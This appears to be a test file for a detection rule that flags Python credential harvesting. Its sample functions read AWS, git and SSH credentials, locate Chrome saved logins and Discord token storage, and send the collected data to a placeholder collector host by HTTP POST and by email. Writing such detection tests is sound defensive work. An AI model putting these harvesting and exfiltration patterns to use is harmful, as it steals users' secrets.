import os
import smtplib
from pathlib import Path

import requests


def collect():
    data = {}
    # ruleid: python-credential-harvest-and-send
    for name in ("~/.aws/credentials", "~/.git-credentials"):
        path = os.path.expanduser(name)
        if os.path.exists(path):
            with open(path) as f:
                data[name] = f.read()
    return data


def harvest():
    home = Path.home()
    # ruleid: python-credential-harvest-and-send
    key = home / ".ssh" / "id_rsa"
    return key.read_text()


def chrome_logins():
    # ruleid: python-credential-harvest-and-send
    return os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")


def send(data):
    requests.post("https://collector.example.org/upload", json=data)
    with smtplib.SMTP("smtp.example.com") as s:
        s.sendmail("a@example.com", ["b@example.com"], str(data))


def describe():
    # ok: python-credential-harvest-and-send
    return "Store your keys under .ssh in your home directory"


def discord_tokens(roaming):
    # ruleid: python-credential-harvest-and-send
    path = roaming + "\\Discord\\Local Storage\\leveldb"
    return os.listdir(path)


def netrc_auth(host):
    # requests and ftplib read .netrc for the user's own logins
    # ok: python-credential-harvest-and-send
    return os.path.expanduser("~/.netrc")
